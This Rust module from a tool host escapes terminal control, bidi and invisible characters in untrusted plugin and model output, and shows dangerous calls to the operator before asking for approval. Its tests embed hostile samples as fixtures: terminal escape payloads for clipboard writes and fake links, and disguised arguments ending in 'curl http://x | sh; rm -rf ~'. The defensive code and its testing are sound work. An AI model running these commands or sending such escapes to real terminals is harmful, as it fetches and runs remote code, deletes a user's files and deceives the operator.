//! Untrusted text on the operator's terminal (#26). Tool output, tool errors, manifest fields,
//! file names and model text may hold escape sequences, C1 controls, bidi overrides and
//! invisible characters; printed raw, they clear lines, move the cursor, hide text, set the
//! window title or the clipboard, add links, or reorder what the operator reads. Every string
//! toolhost prints that a plugin, a model or a plugin file chose goes through [`text`] (or
//! [`line()`], the same rendering for a one-line field, or [`quoted`] for an argument): such
//! characters are *shown* as escapes (`\x1b`, `\u{202e}`), never obeyed. JSON goes through
//! [`json`], log lines through [`LogStderr`], danger questions through [`ask`].
//!
//! A leaf: nothing else of the crate is imported here, so the rules live in one place.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::io::Write as _;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

/// Format and other invisible characters a terminal must not receive raw: Unicode's `Cf`
/// category (bidi embeddings, overrides, isolates and marks; zero-width space, joiners, word
/// joiner, invisible operators, byte-order mark, tags, …), the line and paragraph separators,
/// and the default-ignorable fillers that draw nothing. Variation selectors are left alone:
/// they only pick a glyph for the character before them. Inclusive ranges, sorted.
const INVISIBLE: &[(u32, u32)] = &[
    (0x00AD, 0x00AD),   // soft hyphen
    (0x034F, 0x034F),   // combining grapheme joiner
    (0x0600, 0x0605),   // Arabic number signs
    (0x061C, 0x061C),   // Arabic letter mark (bidi)
    (0x06DD, 0x06DD),   // Arabic end of ayah
    (0x070F, 0x070F),   // Syriac abbreviation mark
    (0x0890, 0x0891),   // Arabic pound/piastre marks above
    (0x08E2, 0x08E2),   // Arabic disputed end of ayah
    (0x115F, 0x1160),   // Hangul fillers
    (0x17B4, 0x17B5),   // Khmer inherent vowels
    (0x180E, 0x180E),   // Mongolian vowel separator
    (0x200B, 0x200F),   // zero-width space, non-joiner, joiner; LRM, RLM
    (0x2028, 0x202E),   // line/paragraph separators; LRE, RLE, PDF, LRO, RLO
    (0x2060, 0x206F),   // word joiner, invisible operators, LRI, RLI, FSI, PDI, deprecated
    (0x3164, 0x3164),   // Hangul filler
    (0xFEFF, 0xFEFF),   // zero-width no-break space (BOM)
    (0xFFA0, 0xFFA0),   // halfwidth Hangul filler
    (0xFFF0, 0xFFFB),   // interlinear annotation
    (0x110BD, 0x110BD), // Kaithi number sign
    (0x110CD, 0x110CD), // Kaithi number sign above
    (0x13430, 0x1343F), // Egyptian hieroglyph format controls
    (0x1BCA0, 0x1BCA3), // shorthand format controls
    (0x1D173, 0x1D17A), // musical symbol format controls
    (0xE0000, 0xE00FF), // tags
];

/// `1 tool`, `2 tools`: a count and its noun (plural with `s`).
pub fn count(n: usize, noun: &str) -> String {
    format!("{n} {noun}{}", if n == 1 { "" } else { "s" })
}

/// Whether `c` is never written to a terminal as itself: C0 controls (newline and tab
/// included: [`text`] keeps those two, [`line()`] does not), DEL, C1 controls, and the
/// invisible characters (bidi controls, zero-width characters, other format characters).
pub fn is_control(c: char) -> bool {
    let u = c as u32;
    u < 0x20
        || (0x7F..=0x9F).contains(&u)
        || (u >= 0xAD
            && INVISIBLE
                .binary_search_by(|&(lo, hi)| {
                    if hi < u {
                        std::cmp::Ordering::Less
                    } else if lo > u {
                        std::cmp::Ordering::Greater
                    } else {
                        std::cmp::Ordering::Equal
                    }
                })
                .is_ok())
}

/// How `c` is shown: `\n`, `\t`, `\r`, `\x1b` for the other C0 controls and DEL, `\u{202e}`
/// for the rest.
fn escape_into(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\t' => out.push_str("\\t"),
        '\r' => out.push_str("\\r"),
        c if (c as u32) < 0x80 => {
            let _ = write!(out, "\\x{:02x}", c as u32);
        }
        c => {
            let _ = write!(out, "\\u{{{:x}}}", c as u32);
        }
    }
}

/// The rendering behind [`text`] and [`line`]: every [`is_control`] character escaped, except
/// (with `lines`) newline, tab and a carriage return right before a newline, which cannot
/// overwrite or hide anything.
fn render(s: &str, lines: bool) -> Cow<'_, str> {
    let kept = |c: char, next: Option<char>| match c {
        '\n' | '\t' => lines,
        '\r' => lines && next == Some('\n'),
        c => !is_control(c),
    };
    let mut chars = s.char_indices().peekable();
    let first = loop {
        match chars.next() {
            None => return Cow::Borrowed(s),
            Some((i, c)) if !kept(c, chars.peek().map(|&(_, n)| n)) => break i,
            Some(_) => {}
        }
    };
    let mut out = String::with_capacity(s.len() + 16);
    out.push_str(&s[..first]);
    let mut chars = s[first..].chars().peekable();
    while let Some(c) = chars.next() {
        if kept(c, chars.peek().copied()) {
            out.push(c);
        } else {
            escape_into(&mut out, c);
        }
    }
    Cow::Owned(out)
}

/// Untrusted text (tool output, an error, model text) as a terminal may show it: lines and
/// tabs kept, every other control, escape, bidi or invisible character shown as an escape.
pub fn text(s: &str) -> Cow<'_, str> {
    render(s, true)
}

/// An untrusted one-line field (a description, a version, a file name, a card line): as
/// [`text`], and newlines and tabs shown as `\n`, `\t` too, so it cannot draw lines of its own.
pub fn line(s: &str) -> Cow<'_, str> {
    render(s, false)
}

/// An argument as a danger question shows it: in double quotes, `"` and `\` escaped, every
/// control (newlines and tabs too) shown as an escape, so nothing in it looks like the end of
/// the argument or of the call.
pub fn quoted(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if is_control(c) => escape_into(&mut out, c),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// JSON text with the [`is_control`] characters serde_json writes raw (C1, DEL, bidi, …)
/// escaped as `\uXXXX` (surrogate pairs above U+FFFF). Outside strings serde_json writes no
/// such character but the newlines of pretty printing, which are kept, so the result is valid
/// JSON with the same value.
pub fn json(s: &str) -> Cow<'_, str> {
    if !s.chars().any(|c| c != '\n' && is_control(c)) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    let mut units = [0u16; 2];
    for c in s.chars() {
        if c != '\n' && is_control(c) {
            for u in c.encode_utf16(&mut units) {
                let _ = write!(out, "\\u{u:04x}");
            }
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// `serde_json::to_string_pretty`, then [`json`]: what toolhost prints for `--json`.
pub fn to_json<T: serde::Serialize + ?Sized>(value: &T) -> serde_json::Result<String> {
    serde_json::to_string_pretty(value).map(|s| json(&s).into_owned())
}

/// Print untrusted data to standard output: rendered by [`text`] when it is a terminal, as is
/// when it is a pipe or a file (a program or a model reads it, and `call read f > copy` must
/// copy). Returns what to print.
pub fn stdout_text(s: &str) -> Cow<'_, str> {
    if std::io::IsTerminal::is_terminal(&std::io::stdout()) { text(s) } else { Cow::Borrowed(s) }
}

/// The SGR parameters a log line may carry (the colours, bold, dim and italics of the log
/// formatter). Not 8 (concealed text), not 5/6 (blinking): nothing that hides or distracts.
const LOG_SGR: &[&str] = &[
    "", "0", "1", "2", "3", "4", "22", "23", "24", "30", "31", "32", "33", "34", "35", "36", "37", "39",
    "90", "91", "92", "93", "94", "95", "96", "97",
];

/// A formatted log line as [`text`] renders it, except that the log formatter's own colours
/// (`ESC [ params m` with the formatter's colour parameters) pass. The formatter already shows an ESC in
/// a logged value as `\x1b`, so a plugin's string cannot produce such a sequence.
pub fn log_line(s: &str) -> Cow<'_, str> {
    if !s.contains('\x1b') {
        return text(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    let mut rest = s;
    while let Some(at) = rest.find('\x1b') {
        out.push_str(&text(&rest[..at]));
        let seq = &rest[at..];
        let sgr = seq
            .strip_prefix("\x1b[")
            .and_then(|p| p.find('m').map(|end| &p[..end]))
            .filter(|params| params.split(';').all(|p| LOG_SGR.contains(&p)));
        match sgr {
            Some(params) => {
                let len = 2 + params.len() + 1;
                out.push_str(&seq[..len]);
                rest = &seq[len..];
            }
            None => {
                out.push_str("\\x1b");
                rest = &seq[1..];
            }
        }
    }
    out.push_str(&text(rest));
    Cow::Owned(out)
}

/// Standard error for the log formatter (`tracing_subscriber`), each line through [`log_line`]:
/// plugins' log lines, their captured stderr and file names reach the terminal with `-v`.
#[derive(Debug, Default, Clone, Copy)]
pub struct LogStderr;

impl<'a> tracing_subscriber::fmt::MakeWriter<'a> for LogStderr {
    type Writer = LogStderr;

    fn make_writer(&'a self) -> LogStderr {
        LogStderr
    }
}

impl std::io::Write for LogStderr {
    /// A log line that cannot be written (stderr closed, its reader gone) is dropped: logging
    /// never fails what is being logged. An error here would make the formatter report it
    /// with `eprintln!`, which panics on that same stderr — inside a call or a connection.
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        // The formatter writes each event whole (`write_all` of one buffer).
        let s = String::from_utf8_lossy(buf);
        let _ = std::io::stderr().lock().write_all(log_line(&s).as_bytes());
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        let _ = std::io::stderr().flush();
        Ok(())
    }
}

/// Written before a question (then a fresh line): shift-in to the ASCII character set, SGR
/// reset (colours, concealed text), insert mode off, line wrap on, cursor shown, an open
/// hyperlink closed. Whatever was printed before cannot restyle or hide the question.
pub const RESET: &str = "\x0f\x1b(B\x1b[0m\x1b[4l\x1b[?7h\x1b[?25h\x1b]8;;\x1b\\";

/// Characters of arguments a question shows before the rest must be asked for with `v`.
pub const SHOWN_CHARS: usize = 2000;

/// A danger question: toolhost's own heading lines, then the call, then `Run it?`.
#[derive(Debug, Clone)]
pub struct Question {
    pub heading: Vec<String>,
    pub tool: String,
    pub args: Vec<String>,
}

/// What the operator answered.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Answer {
    Yes,
    No,
    /// No terminal to ask on.
    NoTerminal,
}

impl Question {
    /// The heading and the call, laid out for `width` columns: the tool's name, then each
    /// argument through [`quoted`] and wrapped, never cut — unless `budget` is given and the
    /// arguments are longer: then they are shown up to it and the rest counted (the second
    /// value). Ends with a newline.
    pub fn layout(&self, width: usize, budget: Option<usize>) -> (String, usize) {
        let width = width.max(24);
        let mut out = String::new();
        for h in &self.heading {
            out.push_str(&line(h));
            out.push('\n');
        }
        let tool = line(&self.tool);
        let args: Vec<String> = self.args.iter().map(|a| quoted(a)).collect();
        let total: usize = args.iter().map(|a| a.chars().count()).sum::<usize>() + 2 * args.len();
        if budget.is_none_or(|b| total <= b) && 2 + tool.chars().count() + total + 2 <= width {
            out.push_str(&format!("  {tool}({})\n", args.join(", ")));
            return (out, 0);
        }
        out.push_str(&format!("  {tool}(\n"));
        let mut left = budget.unwrap_or(usize::MAX);
        let mut hidden = 0;
        let per_line = width - 6;
        for (i, a) in args.iter().enumerate() {
            let comma = if i + 1 < args.len() { "," } else { "" };
            let chars: Vec<char> = a.chars().collect();
            let shown = chars.len().min(left);
            left -= shown;
            hidden += chars.len() - shown;
            if shown == 0 {
                continue;
            }
            for (k, chunk) in chars[..shown].chunks(per_line).enumerate() {
                out.push_str("    ");
                out.extend(chunk);
                let last = (k + 1) * per_line >= shown;
                if last {
                    out.push_str(if shown < chars.len() { "…" } else { comma });
                }
                out.push('\n');
            }
        }
        if hidden > 0 {
            out.push_str(&format!("    … +{hidden} more characters not shown: type v to view them\n"));
        }
        out.push_str("  )\n");
        (out, hidden)
    }
}

/// The operator's terminal: `/dev/tty`, whatever standard input is (a reply piped into
/// `run`, a chat's input); only when one of the standard streams is a terminal too — a
/// toolhost whose streams are all pipes or files was started by a program, and nobody there
/// watches for a question.
#[cfg(unix)]
pub struct Tty {
    file: std::fs::File,
}

#[cfg(unix)]
impl Tty {
    pub fn open() -> Option<Tty> {
        use std::io::IsTerminal;
        if !(std::io::stdin().is_terminal()
            || std::io::stdout().is_terminal()
            || std::io::stderr().is_terminal())
        {
            return None;
        }
        let file = std::fs::OpenOptions::new().read(true).write(true).open("/dev/tty").ok()?;
        file.is_terminal().then_some(Tty { file })
    }

    pub fn available() -> bool {
        Tty::open().is_some()
    }

    fn width(&self) -> usize {
        rustix::termios::tcgetwinsize(&self.file)
            .ok()
            .map(|w| w.ws_col as usize)
            .filter(|&w| w > 0)
            .unwrap_or(80)
    }

    fn write(&mut self, s: &str) {
        let _ = self.file.write_all(s.as_bytes());
        let _ = self.file.flush();
    }

    /// Discard what was typed before now (type-ahead, or an answer to a question some output
    /// only pretended to ask): the answer must be typed after toolhost's question.
    fn discard_input(&self) {
        let _ = rustix::termios::tcflush(&self.file, rustix::termios::QueueSelector::IFlush);
    }

    /// One line typed on the terminal; `None` at end of input, on an error, or once `cancel`
    /// is set (polled every 100 ms, so an abandoned question does not eat the next line).
    fn read_line(&mut self, cancel: &AtomicBool) -> Option<String> {
        use rustix::event::{PollFd, PollFlags, Timespec, poll};
        use std::io::Read;
        let mut line = Vec::new();
        let tick = Timespec { tv_sec: 0, tv_nsec: 100_000_000 };
        while !line.ends_with(b"\n") {
            if cancel.load(Ordering::Relaxed) {
                return None;
            }
            let mut fds = [PollFd::new(&self.file, PollFlags::IN)];
            match poll(&mut fds, Some(&tick)) {
                Ok(0) => continue,
                Ok(_) => {}
                Err(rustix::io::Errno::INTR) => continue,
                Err(_) => return None,
            }
            let mut buf = [0u8; 512];
            match self.file.read(&mut buf) {
                Ok(0) => break,
                Ok(n) => line.extend_from_slice(&buf[..n]),
                Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                Err(_) => return None,
            }
        }
        (!line.is_empty()).then(|| String::from_utf8_lossy(&line).into_owned())
    }
}

/// Without `/dev/tty` there is no terminal to ask on.
#[cfg(not(unix))]
pub struct Tty;

#[cfg(not(unix))]
impl Tty {
    pub fn open() -> Option<Tty> {
        None
    }

    pub fn available() -> bool {
        false
    }

    fn width(&self) -> usize {
        80
    }

    fn write(&mut self, _s: &str) {}

    fn discard_input(&self) {}

    fn read_line(&mut self, _cancel: &AtomicBool) -> Option<String> {
        None
    }
}

/// Ask `q` on the terminal (blocking). The question starts on a clean line after [`RESET`]
/// (unless `TERM=dumb`), shows the whole call — or, past [`SHOWN_CHARS`], says how much is
/// not shown, and `y` counts only once `v` has shown it — and reads the answer from the
/// terminal after discarding what was typed before the question.
pub fn ask_blocking(q: &Question, cancel: &AtomicBool) -> Answer {
    let Some(mut tty) = Tty::open() else { return Answer::NoTerminal };
    let width = tty.width();
    let (shown, hidden) = q.layout(width, Some(SHOWN_CHARS));
    let dumb = std::env::var("TERM").is_ok_and(|t| t == "dumb");
    if !dumb {
        tty.write(RESET);
    }
    tty.write("\r\n");
    tty.write(&shown);
    let mut viewed = hidden == 0;
    for _ in 0..8 {
        // Discarded before the prompt is drawn: whoever sees `Run it?` can answer it.
        tty.discard_input();
        tty.write(if viewed { "Run it? [y/N] " } else { "Run it? [v to view the whole call, y/N] " });
        let Some(answer) = tty.read_line(cancel) else {
            tty.write("\n");
            return Answer::No;
        };
        match answer.trim().to_lowercase().as_str() {
            "y" | "yes" if viewed => return Answer::Yes,
            "y" | "yes" => tty.write("  not yet: the whole call has not been shown; type v to view it\n"),
            "v" | "view" => {
                tty.write(&q.layout(width, None).0);
                viewed = true;
            }
            _ => return Answer::No,
        }
    }
    Answer::No
}

/// What the operator answered to a grant question ([`ask_grant_blocking`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum GrantChoice {
    Once,
    Always,
    Deny,
    Never,
    /// No terminal to ask on.
    NoTerminal,
}

/// Ask a grant question on the terminal (blocking), the way [`ask_blocking`] asks a danger
/// question — same terminal, same clean line, the call shown the same way, type-ahead
/// discarded, and `o`/`a` count only once the whole call has been shown — with three answers:
/// allow once, always, deny, or never (anything else, and the end of input, deny).
pub fn ask_grant_blocking(q: &Question, cancel: &AtomicBool) -> GrantChoice {
    let Some(mut tty) = Tty::open() else { return GrantChoice::NoTerminal };
    let width = tty.width();
    let (shown, hidden) = q.layout(width, Some(SHOWN_CHARS));
    if !std::env::var("TERM").is_ok_and(|t| t == "dumb") {
        tty.write(RESET);
    }
    tty.write("\r\n");
    tty.write(&shown);
    let mut viewed = hidden == 0;
    for _ in 0..8 {
        tty.discard_input();
        tty.write(if viewed {
            "Allow? [o = once, a = always, d = deny, n = never] "
        } else {
            "Allow? [v to view the whole call, o = once, a = always, d = deny, n = never] "
        });
        let Some(answer) = tty.read_line(cancel) else {
            tty.write("\n");
            return GrantChoice::Deny;
        };
        match answer.trim().to_lowercase().as_str() {
            "o" | "once" if viewed => return GrantChoice::Once,
            "a" | "always" if viewed => return GrantChoice::Always,
            "n" | "never" => return GrantChoice::Never,
            "o" | "once" | "a" | "always" => {
                tty.write("  not yet: the whole call has not been shown; type v to view it\n")
            }
            "v" | "view" => {
                tty.write(&q.layout(width, None).0);
                viewed = true;
            }
            _ => return GrantChoice::Deny,
        }
    }
    GrantChoice::Deny
}

/// [`ask_grant_blocking`] on a blocking thread, abandoned like [`ask`] when dropped.
pub async fn ask_grant(q: Question) -> GrantChoice {
    struct Abandon(Arc<AtomicBool>);
    impl Drop for Abandon {
        fn drop(&mut self) {
            self.0.store(true, Ordering::Relaxed);
        }
    }
    let cancel = Arc::new(AtomicBool::new(false));
    let guard = Abandon(cancel.clone());
    let answer = tokio::task::spawn_blocking(move || ask_grant_blocking(&q, &cancel)).await;
    drop(guard);
    answer.unwrap_or(GrantChoice::Deny)
}

/// [`ask_blocking`] on a blocking thread; dropping the future abandons the question (the
/// thread stops reading within 100 ms, so the line typed next is not taken as an answer).
pub async fn ask(q: Question) -> Answer {
    struct Abandon(Arc<AtomicBool>);
    impl Drop for Abandon {
        fn drop(&mut self) {
            self.0.store(true, Ordering::Relaxed);
        }
    }
    let cancel = Arc::new(AtomicBool::new(false));
    let guard = Abandon(cancel.clone());
    let answer = tokio::task::spawn_blocking(move || ask_blocking(&q, &cancel)).await;
    drop(guard);
    answer.unwrap_or(Answer::No)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn each_class_is_shown_not_obeyed() {
        let cases = [
            ("\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"),       // CSI clear, cursor home
            ("a\x1b[1A\x1b[2Kb", "a\\x1b[1A\\x1b[2Kb"), // cursor up, erase line
            ("\x1b[8msecret\x1b[0m", "\\x1b[8msecret\\x1b[0m"), // SGR hidden text
            ("\x1b]0;pwned\x07", "\\x1b]0;pwned\\x07"), // OSC title, BEL
            ("\x1b]52;c;Y3VybCB4fHNo\x07", "\\x1b]52;c;Y3VybCB4fHNo\\x07"), // OSC 52 clipboard
            ("\x1b]8;;http://evil\x1b\\ok\x1b]8;;\x1b\\", "\\x1b]8;;http://evil\\x1b\\ok\\x1b]8;;\\x1b\\"), // OSC 8
            ("\u{9b}2J", "\\u{9b}2J"),                // C1 CSI
            ("\u{9d}0;t\u{9c}", "\\u{9d}0;t\\u{9c}"), // C1 OSC, ST
            ("abc\u{202e}fed", "abc\\u{202e}fed"),    // bidi override
            ("\u{2066}x\u{2069}\u{200e}\u{200f}\u{61c}", "\\u{2066}x\\u{2069}\\u{200e}\\u{200f}\\u{61c}"),
            ("rm\u{200b}-rf\u{feff}\u{2060}", "rm\\u{200b}-rf\\u{feff}\\u{2060}"), // zero-width
            ("\u{e0041}\u{ad}", "\\u{e0041}\\u{ad}"),                              // tag, soft hyphen
            ("over\rwrite", "over\\rwrite"),                                       // lone CR
            ("\x08\x7f\x00\x0e", "\\x08\\x7f\\x00\\x0e"),                          // BS, DEL, NUL, shift-out
            ("a\u{2028}b", "a\\u{2028}b"),                                         // line separator
        ];
        for (raw, shown) in cases {
            assert_eq!(text(raw), shown, "{raw:?}");
            assert_eq!(line(raw), shown, "{raw:?}");
        }
    }

    #[test]
    fn lines_and_tabs_are_kept_by_text_only() {
        assert_eq!(text("a\n\tb\r\nc"), "a\n\tb\r\nc");
        assert_eq!(line("a\n\tb\r\nc"), "a\\n\\tb\\r\\nc");
        assert_eq!(text("end\r"), "end\\r");
        assert!(matches!(text("plain ünïcödé, 中文, emoji ❤️ 👍"), Cow::Borrowed(_)));
        assert!(matches!(line("nothing to do"), Cow::Borrowed(_)));
    }

    #[test]
    fn quoted_arguments_cannot_end_early() {
        assert_eq!(quoted("a\"b\\c\nd\u{202e}"), "\"a\\\"b\\\\c\\nd\\u{202e}\"");
    }

    #[test]
    fn json_stays_json_with_the_same_value() {
        let v = serde_json::json!({"s": "\u{9b}2J \u{202e}x \u{e0041} \x1b[8m \u{7f}", "n": [1, 2]});
        let printed = to_json(&v).unwrap();
        assert!(!printed.chars().any(|c| c != '\n' && is_control(c)), "{printed}");
        assert!(
            printed.contains("\\u009b") && printed.contains("\\u202e") && printed.contains("\\udb40\\udc41")
        );
        let back: serde_json::Value = serde_json::from_str(&printed).unwrap();
        assert_eq!(back, v);
    }

    #[test]
    fn log_lines_keep_the_formatters_colours_only() {
        let formatted =
            "\x1b[2m2026\x1b[0m \x1b[33m WARN\x1b[0m plugin says \\x1b]0;t\x07 \u{202e}\x1b[8mx\n";
        assert_eq!(
            log_line(formatted),
            "\x1b[2m2026\x1b[0m \x1b[33m WARN\x1b[0m plugin says \\x1b]0;t\\x07 \\u{202e}\\x1b[8mx\n"
        );
        assert_eq!(log_line("\x1b[1;32mok\x1b[0m \x1b[2J"), "\x1b[1;32mok\x1b[0m \\x1b[2J");
    }

    fn question(args: &[&str]) -> Question {
        Question {
            heading: vec!["toolhost: tool `zap` is marked dangerous.".into()],
            tool: "zap".into(),
            args: args.iter().map(|a| a.to_string()).collect(),
        }
    }

    #[test]
    fn a_question_shows_the_whole_call_wrapped() {
        let (short, hidden) = question(&["a", "b"]).layout(80, Some(SHOWN_CHARS));
        assert_eq!(short, "toolhost: tool `zap` is marked dangerous.\n  zap(\"a\", \"b\")\n");
        assert_eq!(hidden, 0);
        let long =
            format!("please-review-this-harmless-cleanup{}; curl http://x | sh; rm -rf ~", "-".repeat(150));
        let (shown, hidden) = question(&[&long, "\x1b[8m"]).layout(40, Some(SHOWN_CHARS));
        assert_eq!(hidden, 0);
        assert!(shown.lines().skip(1).all(|l| l.chars().count() <= 40), "{shown}");
        let joined: String = shown.lines().skip(2).map(|l| l.strip_prefix("    ").unwrap_or(l)).collect();
        assert!(joined.contains(&quoted(&long)), "{shown}");
        assert!(joined.contains("\"\\x1b[8m\""), "{shown}");
        assert!(!shown.contains('\x1b'));
    }

    #[test]
    fn a_call_past_the_budget_says_how_much_is_not_shown() {
        let long = format!("{}; rm -rf ~", "x".repeat(3 * SHOWN_CHARS));
        let q = question(&[&long]);
        let (shown, hidden) = q.layout(80, Some(SHOWN_CHARS));
        assert_eq!(hidden, quoted(&long).chars().count() - SHOWN_CHARS);
        assert!(
            !shown.contains("rm -rf") && shown.contains(&format!("+{hidden} more characters")),
            "{shown}"
        );
        let (all, none) = q.layout(80, None);
        assert_eq!(none, 0);
        assert!(
            all.lines()
                .map(|l| l.strip_prefix("    ").unwrap_or(l))
                .collect::<String>()
                .contains("; rm -rf ~")
        );
    }

    proptest! {
        #[test]
        fn rendered_text_holds_no_control(s in any::<String>()) {
            let l = line(&s);
            prop_assert!(!l.chars().any(is_control), "{:?}", l);
            let t = text(&s);
            let cs: Vec<char> = t.chars().collect();
            for (i, &c) in cs.iter().enumerate() {
                let ok = !is_control(c) || c == '\n' || c == '\t' || (c == '\r' && cs.get(i + 1) == Some(&'\n'));
                prop_assert!(ok, "{:?} at {} in {:?}", c, i, t);
            }
            let q = quoted(&s);
            prop_assert!(!q.chars().any(is_control), "{:?}", q);
            let j = to_json(&s).unwrap();
            prop_assert!(!j.chars().any(is_control));
            prop_assert_eq!(serde_json::from_str::<String>(&j).unwrap(), s);
        }

        #[test]
        fn every_class_is_caught(c in prop_oneof![
            (0u32..0x20).prop_map(|u| char::from_u32(u).unwrap()),
            (0x7fu32..0xa0).prop_map(|u| char::from_u32(u).unwrap()),
            prop::sample::select(vec!['\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}',
                '\u{2067}', '\u{2068}', '\u{2069}', '\u{200e}', '\u{200f}', '\u{61c}', '\u{200b}', '\u{200c}',
                '\u{200d}', '\u{2060}', '\u{2061}', '\u{2062}', '\u{2063}', '\u{2064}', '\u{feff}', '\u{e0001}']),
        ]) {
            prop_assert!(is_control(c));
            prop_assert!(line(&c.to_string()).starts_with('\\'));
        }
    }

    #[test]
    fn ordinary_characters_pass() {
        for c in ['a', ' ', '~', 'é', '中', '❤', '\u{fe0f}', '\u{a0}', '\u{2013}', '\u{1f600}', '\u{e0100}']
        {
            assert!(!is_control(c), "{c:?}");
        }
        assert!(INVISIBLE.windows(2).all(|w| w[0].1 < w[1].0), "sorted, disjoint");
    }
}
